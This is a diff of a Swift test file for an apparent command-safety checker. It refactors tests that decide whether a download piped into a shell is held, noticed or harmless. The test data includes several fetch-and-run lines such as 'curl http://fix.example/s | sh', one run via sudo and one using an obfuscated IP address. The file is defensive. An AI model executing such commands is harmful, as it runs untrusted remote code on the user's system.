@@ -2,6 +2,7 @@ import Testing
 
 @testable import Guard
 
+/// `Signal.downloadIntoShell`.
 struct DownloadIntoShellTests {
   @Test(arguments: [
     "curl http://fix.example/s | sh",
@@ -16,7 +17,7 @@ struct DownloadIntoShellTests {
     #"sudo sh -c "curl http://fix.example/s | sh""#,
   ])
   func `a script over an unprotected connection into a shell is held`(text: String) {
-    #expect(DownloadIntoShell.severity(of: text) == .hold)
+    #expect(Signal.downloadIntoShell.severity(of: text) == .hold)
   }
 
   @Test(arguments: [
@@ -29,7 +30,7 @@ struct DownloadIntoShellTests {
     "curl https://0x7f.0.0.2/x | sh",
   ])
   func `a bare address, a paste site, a shortener, a tunnel and a user before the host are held`(text: String) {
-    #expect(DownloadIntoShell.severity(of: text) == .hold)
+    #expect(Signal.downloadIntoShell.severity(of: text) == .hold)
   }
 
   @Test(arguments: [
@@ -41,7 +42,7 @@ struct DownloadIntoShellTests {
     "curl -fsLS get.chezmoi.io | sh",
   ])
   func `a script over a protected connection is noticed`(text: String) {
-    #expect(DownloadIntoShell.severity(of: text) == .notice)
+    #expect(Signal.downloadIntoShell.severity(of: text) == .notice)
   }
 
   @Test(arguments: [
@@ -56,11 +57,12 @@ struct DownloadIntoShellTests {
     "# curl http://fix.example/s | sh",
   ])
   func `a download that no shell reads is harmless`(text: String) {
-    #expect(DownloadIntoShell.severity(of: text) == nil)
+    #expect(Signal.downloadIntoShell.severity(of: text) == nil)
   }
 
   @Test func `only a script of a well-known installer is called one`() {
-    let sentence = { (text: String) in assess(text).reasons.first { $0.name == DownloadIntoShell.name }?.sentence ?? ""
+    let sentence = { (text: String) in
+      assess(text).reasons.first { $0.name == Signal.downloadIntoShell.name }?.sentence ?? ""
     }
     #expect(sentence("curl -sSf https://sh.rustup.rs | sh").contains("well-known"))
     #expect(!sentence("curl -sSf https://fix.example | sh").contains("well-known"))
